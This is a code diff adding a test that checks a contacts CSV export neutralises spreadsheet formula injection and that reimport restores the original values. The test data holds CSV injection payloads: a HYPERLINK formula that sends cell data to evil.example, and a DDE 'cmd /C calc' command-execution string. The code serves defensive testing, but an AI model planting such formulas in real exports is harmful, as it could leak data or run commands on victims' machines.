@@ -204,3 +204,47 @@ async def test_a_list_is_exported_and_an_unknown_list_is_404(client, uows, clock
 async def uows_contact(uows, email):
     async with uows() as uow:
         return await uow.contacts.get_by_email(email)
+
+
+FORMULAS = (
+    "email,first_name,last_name,job_title,city,custom_attributes\n"
+    'eve@x.it,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",'
+    '"-2+3+cmd|\' /C calc\'!A0",@SUM(1+1),+39,"{""note"": ""=1+1""}"\n'
+)
+EVE = {
+    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "last_name": "-2+3+cmd|' /C calc'!A0",
+    "job_title": "@SUM(1+1)",
+    "city": "+39",
+}
+
+
+async def test_formula_cells_are_neutralised_unless_raw_and_reimport_restores_them(
+    client, uows, clock, read_key, sqlite_template, tmp_path
+):
+    await seed(uows, clock(), FORMULAS)
+    headers = {"authorization": f"Bearer {read_key}"}
+
+    safe = await client.get("/export/contacts.csv", headers=headers)
+    raw = await client.get("/export/contacts.csv?raw=true", headers=headers)
+    bad = await client.get("/export/contacts.csv?raw=maybe", headers=headers)
+
+    eve = rows(safe.text)[0]
+    assert {k: eve[k] for k in EVE} == {k: "'" + v for k, v in EVE.items()}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in eve.values())
+    assert {k: rows(raw.text)[0][k] for k in EVE} == EVE
+    assert bad.status_code == 400 and bad.json()["errors"][0]["extensions"]["field"] == "raw"
+    path = tmp_path / "fresh.db"
+    shutil.copy(sqlite_template, path)
+    db = Database(f"sqlite+aiosqlite:///{path}")
+    try:
+        fresh = unit_of_work_factory(db)
+        report = await csv_io.import_contacts(fresh, io.StringIO(safe.text, newline=""), clock())
+        async with fresh() as uow:
+            stored = await uow.contacts.get_by_email("eve@x.it")
+    finally:
+        await db.dispose()
+    assert (report.created, report.rejected) == (1, 0), report.problems
+    assert stored is not None
+    assert {k: getattr(stored, k) for k in EVE} == EVE
+    assert stored.custom_attributes == {"note": "=1+1"}
